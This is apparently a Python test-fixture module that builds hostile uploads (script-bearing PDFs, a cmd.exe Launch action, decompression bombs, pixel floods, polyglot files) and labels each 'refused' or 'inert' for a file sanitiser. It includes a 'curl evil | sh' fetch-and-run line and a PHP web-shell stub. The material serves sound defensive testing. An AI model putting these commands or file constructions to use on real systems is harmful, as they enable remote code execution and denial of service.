"""Files that want harm, written by code: each with what must become of it.

"refused", or "inert": taken, but whatever is stored is plain: a PDF without anything that acts, a picture without
anything beside it.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Stream, String
from PIL import Image

HTML = b"<html><script>alert(document.domain)</script></html>"
MARK = b"GPS-POSITION-OF-A-HOME"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, pages: int = 1, **save: object) -> bytes:
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page(page_size=(300, 400))
    change(made)
    kept = io.BytesIO()
    made.save(kept, **save)
    return kept.getvalue()


def picture(form: str, size: tuple[int, int] = (60, 40), **save: object) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, (11, 79, 108)).save(kept, form, **save)
    return kept.getvalue()


def archive(inside: bytes = HTML) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("index.html", inside)
    return kept.getvalue()


def _script(kind: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{kind}')"))


def _opening_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script("open")


def _named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script("named")])))


def _script_of_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=_script("page"))


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return change


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = AttachedFileSpec(made, b"MZ" + b"\0" * 400, filename="run.exe")


def _living_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp><script>1</script></xdp>"), Fields=Array([]))


def _field_that_counts(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script("key")))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def _swollen_page(made: pikepdf.Pdf) -> None:
    squeezed = zlib.compress(b"0 0 m 9 9 l S\n" * 40_000_000, 9)
    made.pages[0].obj.Contents = Stream(made, squeezed, Filter=Name.FlateDecode)


def _pages_in_a_circle(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids = Array([made.Root.Pages])


def _huge_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.MediaBox = Array([0, 0, 14_000_000, 14_000_000])


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def flood(width: int, height: int) -> bytes:
    """A PNG that promises a plain of pixels and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def with_position() -> bytes:
    told = Image.Exif()
    told[0x010E] = MARK.decode()
    return picture("JPEG", exif=told)


def with_text() -> bytes:
    drawn = picture("PNG")
    at = drawn.index(b"IDAT") - 4
    return drawn[:at] + _chunk(b"tEXt", b"Comment\0" + MARK) + _chunk(b"eXIf", MARK) + drawn[at:]


def scratched(content: bytes, seed: int) -> bytes:
    """Some bytes of a good file changed by chance, always the same."""
    dice, changed = random.Random(seed), bytearray(content)
    for _scratch in range(12):
        changed[dice.randrange(8, len(changed))] = dice.randrange(256)
    return bytes(changed)


def hostile() -> Iterator[tuple[str, bytes, str]]:
    """(name, bytes, what must become of it)."""
    yield "page of a site", HTML, "refused"
    yield "drawing with a script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "refused"
    yield "archive", archive(), "refused"
    yield "archive that swells", archive(b"\0" * 20_000_000), "refused"
    yield "program of Windows", b"MZ" + b"\0" * 500, "refused"
    yield "program of Linux", b"\x7fELF" + b"\0" * 500, "refused"
    yield "script for a shell", b"#!/bin/sh\ncurl evil | sh\n", "refused"
    yield "old Word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "refused"
    yield "animation", picture("GIF"), "refused"
    yield "picture of another kind", picture("TIFF"), "refused"
    yield "page before a PDF", HTML + pdf(), "refused"
    yield "archive before a PDF", archive() + pdf(), "refused"
    yield "head of a PDF and nothing", b"%PDF-1.7\n", "refused"
    yield "head of a PDF, then a page", b"%PDF-1.4\n" + HTML * 30, "refused"
    yield "half a PDF", pdf()[:200], "refused"
    yield "PDF without pages", pdf(pages=0), "refused"
    yield "PDF locked", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "refused"
    yield "PDF of too many pages", pdf(pages=1500), "refused"
    yield "PDF whose pages go in a circle", pdf(_pages_in_a_circle), "refused"
    yield "PDF with a page that swells", pdf(_swollen_page), "refused"
    yield "half a JPEG", picture("JPEG", (900, 900))[:700], "refused"
    yield "half a PNG", picture("PNG", (900, 900))[:60], "refused"
    yield "head of a JPEG, then a page", b"\xff\xd8\xff\xe0" + HTML * 30, "refused"
    yield "head of a PNG, then a script", b"\x89PNG\r\n\x1a\n<?php system($_GET[1]); ?>" * 9, "refused"
    yield "flood of pixels", flood(60_000, 60_000), "refused"
    yield "flood in one line", flood(2_000_000_000, 1), "refused"
    yield "picture without width", flood(0, 10), "refused"
    yield "script when it opens", pdf(_opening_script), "inert"
    yield "script by name", pdf(_named_script), "inert"
    yield "script of a page", pdf(_script_of_page), "inert"
    yield "script of a field", pdf(_field_that_counts), "inert"
    yield "program when it opens", pdf(_launch), "inert"
    yield "link that runs a script", pdf(_link(_script("link"))), "inert"
    yield "link that sends a form", pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://x.example")))), "inert"
    yield "form that lives", pdf(_living_form), "inert"
    yield "program attached", pdf(_attachment), "inert"
    yield "huge page", pdf(_huge_page), "inert"
    yield "archive behind a PDF", pdf() + archive(), "inert"
    yield "page behind a PDF", pdf() + HTML * 9, "inert"
    yield "archive behind a JPEG", picture("JPEG") + archive(), "inert"
    yield "script in the comment of a JPEG", picture("JPEG", comment=b"<?php " + MARK), "inert"
    yield "position in a photograph", with_position(), "inert"
    yield "text in a PNG", with_text(), "inert"
    yield "page behind a PNG", picture("PNG") + HTML, "inert"
